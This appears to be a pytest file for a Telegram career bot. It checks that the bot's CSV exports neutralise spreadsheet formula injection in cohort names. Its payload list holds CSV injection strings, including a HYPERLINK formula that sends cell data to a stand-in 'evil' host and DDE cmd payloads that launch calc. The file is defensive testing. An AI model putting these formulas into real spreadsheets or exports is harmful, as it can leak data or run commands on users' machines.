"""A cohort named like a spreadsheet formula reaches the CSV (the bot's /export and
`careerbot export`) as text: every cell that a spreadsheet would run starts with a quote."""

import csv
import io
from pathlib import Path

from bot.db.models import Cohort
from bot.features.stats.export import COLUMNS
from tests.cli_support import clean_env, run_careerbot
from tests.conftest import BotHarness
from tests.feature_support import assert_no_error

ADMIN = 900  # settings.admin_ids in tests/conftest.py
# The classic payloads (OWASP's CSV injection page and its usual test lists), and the
# variants a spreadsheet may still run: full-width, after leading spaces.
PAYLOADS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    '+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    '＝HYPERLINK("http://evil/")',
    "＠SUM(1)",
    "  =1+1",
    "\u3000+1",
]
HARMLESS = ["Class 9B", "a=b", "9-B"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def uploaded_csv(harness: BotHarness) -> str:
    [upload] = [call for call in harness.telegram.calls if call.method == "sendDocument"]
    return next(iter(upload.files.values())).decode("utf-8-sig")


def cohort_code(index: int) -> str:
    return f"inject{index}"


async def students_in_cohorts(harness: BotHarness) -> None:
    names = PAYLOADS + HARMLESS
    async with harness.database.session_factory() as session:
        for index, name in enumerate(names):
            session.add(Cohort(code=cohort_code(index), name=name, career=None, lead_id=ADMIN))
        await session.commit()
    for index in range(len(names)):
        replies = await harness.user(2000 + index, "Kim").send(f"/start {cohort_code(index)}")
        assert_no_error(replies)


def assert_neutralised(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(COLUMNS)
    cohorts = sorted(row[COLUMNS.index("cohort")] for row in rows[1:])
    assert cohorts == sorted(["'" + name for name in PAYLOADS] + HARMLESS)
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" \u3000").startswith(FORMULA_STARTS), cell


async def test_export_neutralises_formula_cells(harness: BotHarness) -> None:
    await students_in_cohorts(harness)
    replies = await harness.user(ADMIN, "Ada").send("/export")
    assert_no_error(replies)
    assert_neutralised(uploaded_csv(harness))


async def test_cli_export_neutralises_formula_cells(harness: BotHarness, tmp_path: Path) -> None:
    await students_in_cohorts(harness)
    env = clean_env(tmp_path, DATABASE_URL=harness.settings.database_url)
    target = tmp_path / "progress.csv"
    result = run_careerbot("export", "-o", str(target), cwd=tmp_path, env=env)
    assert result.returncode == 0, result.stderr
    # Read as bytes: a text-mode read would turn the carriage return of a cell into a newline.
    assert_neutralised(target.read_bytes().decode("utf-8-sig"))
